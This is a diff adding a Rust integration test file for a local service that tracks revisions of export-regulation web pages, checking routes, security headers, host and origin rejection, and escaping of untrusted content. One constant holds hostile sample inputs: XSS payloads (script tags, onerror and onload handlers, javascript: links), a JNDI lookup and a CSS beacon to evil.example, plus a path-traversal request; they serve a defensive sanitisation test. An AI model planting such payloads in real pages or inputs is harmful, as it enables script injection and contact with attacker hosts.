@@ -1,0 +1,298 @@
+//! The service's face on this machine: every address it answers at, in good order and in bad.
+
+#[path = "support/mod.rs"]
+mod support;
+
+use reqwest::{Method, Response};
+use serde_json::{Value, json};
+use support::house::House;
+use support::service::Running;
+use support::site::{Answer, Site};
+
+fn rule(percent: u32) -> String {
+    format!(
+        "<html><head><title>Part 912</title></head><body><main><h1>Part 912—Safeguards</h1>\
+         <p>(a) A license is required to export an item described in the schedule to any destination in Group D, unless \
+         the consignee is listed in Supplement No. 2 to this part.</p>\
+         <p>(b) The share of a consignee owned by a listed entity may not exceed {percent} percent.</p></main></body></html>"
+    )
+}
+
+/// A service that watches `xx-rule` and has seen it revised once.
+struct Served {
+    running: Running,
+    site: Site,
+    _house: House,
+}
+
+impl Served {
+    /// With these two texts as the first and the second version.
+    async fn start(first: &str, second: &str) -> Served {
+        let site = Site::start().await;
+        let house = House::new(site.address(), "");
+        house.source("xx-rule", &site.url("/rule"));
+        site.serve("/rule", Answer::html(first));
+        house.say(&["check", "--all"]).await;
+        site.serve("/rule", Answer::html(second));
+        house.say(&["check", "--all"]).await;
+        Served { running: Running::start(&house).await, site, _house: house }
+    }
+
+    async fn usual() -> Served {
+        Served::start(&rule(50), &rule(25)).await
+    }
+
+    async fn ask(&self, method: Method, path: &str) -> Response {
+        self.running.client.request(method, self.running.url(path)).send().await.expect("an answer")
+    }
+
+    async fn get(&self, path: &str) -> Response {
+        self.ask(Method::GET, path).await
+    }
+
+    async fn post(&self, path: &str, body: &'static str) -> Response {
+        self.running.client.post(self.running.url(path)).body(body).send().await.expect("an answer")
+    }
+}
+
+async fn json_of(answer: Response) -> Value {
+    serde_json::from_slice(&answer.bytes().await.expect("a body")).expect("JSON")
+}
+
+fn header<'a>(answer: &'a Response, name: &str) -> &'a str {
+    answer.headers().get(name).map_or("", |value| value.to_str().expect("text"))
+}
+
+/// Every route with an address that answers 200.
+const GOOD: [&str; 10] = [
+    "/",
+    "/revisions/1",
+    "/style.css",
+    "/healthz",
+    "/api/v1/sources/xx-rule/diff",
+    "/api/v1/sources/xx-rule/diff?format=html",
+    "/api/v1/sources/xx-rule/diff?format=json",
+    "/api/v1/sources/xx-rule/diff?format=markdown",
+    "/api/v1/sources/xx-rule/diff?from=1&to=2&format=text",
+    "/api/v1/checks/1?wait=30",
+];
+
+/// What is asked wrongly, and the status of the answer.
+const BAD: [(&str, u16); 16] = [
+    ("/nowhere", 404),
+    ("/revisions/99", 404),
+    ("/revisions/one", 400),
+    ("/revisions/", 404),
+    ("/api/v1/checks", 405),
+    ("/api/v1/checks/99", 404),
+    ("/api/v1/checks/one", 400),
+    ("/api/v1/checks/1?wait=long", 400),
+    ("/api/v1/checks/1?wait=-1", 400),
+    ("/api/v1/sources/xx-none/diff", 404),
+    ("/api/v1/sources/..%2F..%2Fetc/diff", 404),
+    ("/api/v1/sources/xx-rule/diff?from=yesterday", 400),
+    ("/api/v1/sources/xx-rule/diff?to=77", 404),
+    ("/api/v1/sources/xx-rule/diff?from=1999-01-01", 404),
+    ("/api/v1/sources/xx-rule/diff?format=docx", 400),
+    ("/api/v1/sources/%ff/diff", 400),
+];
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
+async fn every_route_answers_in_its_form_with_the_headers_that_close_it() {
+    let served = Served::usual().await;
+    assert_eq!(served.post("/api/v1/checks", "").await.status(), 202);
+    for path in GOOD {
+        let answer = served.get(path).await;
+        assert_eq!(answer.status(), 200, "{path}");
+        let expected = match path {
+            "/style.css" => "text/css; charset=utf-8",
+            "/healthz" => "text/plain; charset=utf-8",
+            _ if path.starts_with("/api/v1/checks") => "application/json",
+            _ if path.ends_with("format=json") => "application/json",
+            _ if path.ends_with("format=markdown") => "text/markdown; charset=utf-8",
+            _ if path.ends_with("diff") || path.ends_with("format=text") => "text/plain; charset=utf-8",
+            _ => "text/html; charset=utf-8",
+        };
+        assert_eq!(header(&answer, "content-type"), expected, "{path}");
+        closed(&answer, path);
+        let head = served.ask(Method::HEAD, path).await;
+        assert_eq!(head.status(), 200, "HEAD {path}");
+        let body = answer.text().await.expect("a body");
+        let told = match path {
+            "/style.css" => "{",
+            "/healthz" => "ready",
+            "/" => "xx-rule",
+            _ if path.starts_with("/api/v1/checks") => "\"done\":true",
+            _ => "25",
+        };
+        assert!(body.contains(told), "{path}: {body}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
+async fn what_is_asked_wrongly_is_a_problem_with_its_status_and_the_way_out() {
+    let served = Served::usual().await;
+    for (path, status) in BAD {
+        let answer = served.get(path).await;
+        assert_eq!(answer.status(), status, "{path}");
+        problem(answer, path).await;
+    }
+    let bodies = [
+        ("{", 400),
+        ("[1]", 400),
+        ("{\"sources\": \"xx-rule\"}", 400),
+        ("{\"sources\": [\"../x\"]}", 400),
+        ("{\"source\": [\"xx-rule\"]}", 400),
+        ("{\"sources\": [\"xx-none\"]}", 404),
+    ];
+    for (body, status) in bodies {
+        let answer = served.post("/api/v1/checks", body).await;
+        assert_eq!(answer.status(), status, "{body}");
+        problem(answer, body).await;
+    }
+    let huge = served.running.client.post(served.running.url("/api/v1/checks")).body(" ".repeat(9 << 20)).send().await;
+    // Refused before it was read: the server may have closed the connection already.
+    if let Ok(answer) = huge {
+        assert_eq!(answer.status(), 413);
+    }
+    assert_eq!(served.get("/healthz").await.status(), 200);
+}
+
+async fn problem(answer: Response, asked: &str) {
+    closed(&answer, asked);
+    assert_eq!(header(&answer, "content-type"), "application/problem+json", "{asked}");
+    let status = answer.status().as_u16();
+    let told: Value = json_of(answer).await;
+    assert_eq!(told["status"], json!(status), "{asked}: {told}");
+    assert!(told["title"].as_str().is_some_and(|title| title.len() > 5), "{asked}: {told}");
+}
+
+#[track_caller]
+fn closed(answer: &Response, asked: &str) {
+    let policy = header(answer, "content-security-policy");
+    for rule in ["default-src 'none'", "base-uri 'none'", "form-action 'none'", "frame-ancestors 'none'"] {
+        assert!(policy.contains(rule), "{asked}: {policy}");
+    }
+    // Only a document that is served sealed brings a style of its own.
+    assert!(!policy.contains("unsafe-inline") || policy.contains("sandbox"), "{asked}: {policy}");
+    assert!(!policy.contains("script-src"), "{asked}: {policy}");
+    assert_eq!(header(answer, "x-content-type-options"), "nosniff", "{asked}");
+    assert_eq!(header(answer, "referrer-policy"), "no-referrer", "{asked}");
+    assert_eq!(header(answer, "cache-control"), "no-store", "{asked}");
+    assert!(answer.headers().get("set-cookie").is_none() && answer.headers().get("server").is_none(), "{asked}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
+async fn a_run_of_checks_is_begun_waited_for_and_told() {
+    let served = Served::usual().await;
+    served.site.serve("/rule", Answer::html(rule(10)).after(std::time::Duration::from_millis(300)));
+    let begun = served.post("/api/v1/checks", "{\"sources\": [\"xx-rule\"]}").await;
+    assert_eq!(begun.status(), 202);
+    let run = json_of(begun).await["run"].as_u64().expect("a number");
+    let early = json_of(served.get(&format!("/api/v1/checks/{run}")).await).await;
+    assert_eq!(early, json!({"run": run, "done": false, "checks": []}), "without waiting");
+    let ended = json_of(served.get(&format!("/api/v1/checks/{run}?wait=30")).await).await;
+    assert_eq!(ended["done"], true);
+    assert_eq!(ended["checks"], json!([{"source": "xx-rule", "status": "revised", "http": 200, "reason": null}]));
+    let shown = served.running.get("/api/v1/sources/xx-rule/diff").await;
+    assert!(shown.contains("10 percent") && shown.contains("25 percent"), "{shown}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
+async fn another_site_can_neither_read_nor_ask_for_anything() {
+    let served = Served::usual().await;
+    let asked = async |method: Method, path: &str, name: &str, value: &str| {
+        served
+            .running
+            .client
+            .request(method, served.running.url(path))
+            .header(name, value)
+            .send()
+            .await
+            .expect("an answer")
+    };
+    for host in ["evil.example", "evil.example:8300", "127.0.0.1.evil.example", "localhost.evil.example", "8.8.8.8", ""]
+    {
+        for path in GOOD {
+            let answer = asked(Method::GET, path, "host", host).await;
+            assert!(matches!(answer.status().as_u16(), 400 | 403), "{host} {path}");
+            let told = answer.text().await.expect("a body");
+            assert!(!told.contains("percent") && !told.contains("xx-rule"), "{host} {path}: {told}");
+        }
+    }
+    for origin in
+        ["http://evil.example", "null", "http://127.0.0.1.evil.example", "https://localhost@evil.example", "file://"]
+    {
+        let answer = asked(Method::POST, "/api/v1/checks", "origin", origin).await;
+        assert_eq!(answer.status(), 403, "{origin}");
+        closed(&answer, origin);
+    }
+    let crossing = asked(Method::POST, "/api/v1/checks", "sec-fetch-site", "cross-site").await;
+    assert_eq!(crossing.status(), 403, "a browser that tells no origin tells this");
+    let own = format!("http://{}", served.running.address);
+    assert_eq!(asked(Method::POST, "/api/v1/checks", "origin", &own).await.status(), 202);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
+async fn only_a_post_sets_anything_going() {
+    let served = Served::usual().await;
+    let asked_before = served.site.requests().len();
+    for path in GOOD.into_iter().chain(BAD.map(|(path, _)| path)) {
+        for method in [Method::GET, Method::HEAD, Method::OPTIONS, Method::PUT, Method::DELETE, Method::PATCH] {
+            let reads = matches!(method, Method::GET | Method::HEAD);
+            let status = served.ask(method.clone(), path).await.status();
+            assert!(reads || matches!(status.as_u16(), 400 | 404 | 405), "{method} {path}: {status}");
+        }
+        let overridden =
+            served.running.client.get(served.running.url(path)).header("x-http-method-override", "POST").send().await;
+        assert_ne!(overridden.expect("an answer").status(), 202, "{path}");
+    }
+    assert_eq!(served.site.requests().len(), asked_before, "no source was asked");
+}
+
+/// Script, handlers, links that act, SVG, style, bidirectional overrides and what would close an attribute or a script.
+const HOSTILE: &str = "<h1>Part 1&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt; \"&gt;&lt;img src=x onerror=alert(2)&gt; \u{202e}evil\u{202c}</h1>\
+    <p>(a) A license is required <a href=\"javascript:alert(3)\">for items</a> <a href=\"data:text/html,x\">of the list</a> \
+    to any destination in Group D &lt;svg onload=alert(4)&gt; &lt;/script&gt; \u{2066}unless\u{2069} \u{200b}the consignee is listed.</p>\
+    <svg onload=\"alert(5)\"><style>*{background:url(http://evil.example)}</style></svg>\
+    <p onclick=\"alert(6)\">(b) {{7*7}} ${jndi:ldap://evil.example} percent of &lt;iframe src=http://evil.example&gt; NUMBER</p>";
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
+async fn whatever_a_source_says_is_text_on_every_page() {
+    let document = |number: &str| {
+        format!(
+            "<html lang='x\" onload=\"alert(7)'><body><main>{}</main></body></html>",
+            HOSTILE.replace("NUMBER", number)
+        )
+    };
+    let served = Served::start(&document("fifty"), &document("twenty")).await;
+    assert_eq!(served.post("/api/v1/checks", "").await.status(), 202);
+    for path in GOOD.iter().filter(|path| !path.ends_with(".css")) {
+        let body = served.running.get(path).await;
+        let hides = |c: char| {
+            (c.is_control() && c != '\n') || matches!(c, '\u{200b}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+        };
+        assert_eq!(body.chars().find(|c| hides(*c)), None, "{path}: {body}");
+        if !body.starts_with("<!DOCTYPE html>") {
+            continue;
+        }
+        let page = scraper::Html::parse_document(&body);
+        for node in page.tree.nodes().filter_map(|node| node.value().as_element()) {
+            let name = node.name();
+            assert!(
+                !matches!(name, "script" | "img" | "svg" | "iframe" | "object" | "embed" | "form" | "base"),
+                "{path}: <{name}>"
+            );
+            for (attribute, value) in node.attrs() {
+                assert!(!attribute.starts_with("on"), "{path}: {attribute}={value}");
+                let leads = matches!(attribute, "href" | "src");
+                let acts = value.trim_start().to_ascii_lowercase();
+                assert!(
+                    !leads || acts.starts_with("http") || acts.starts_with('/') || acts.starts_with('#'),
+                    "{path}: {value}"
+                );
+            }
+        }
+        assert!(!body.contains("url(http"), "{path}");
+    }
+}
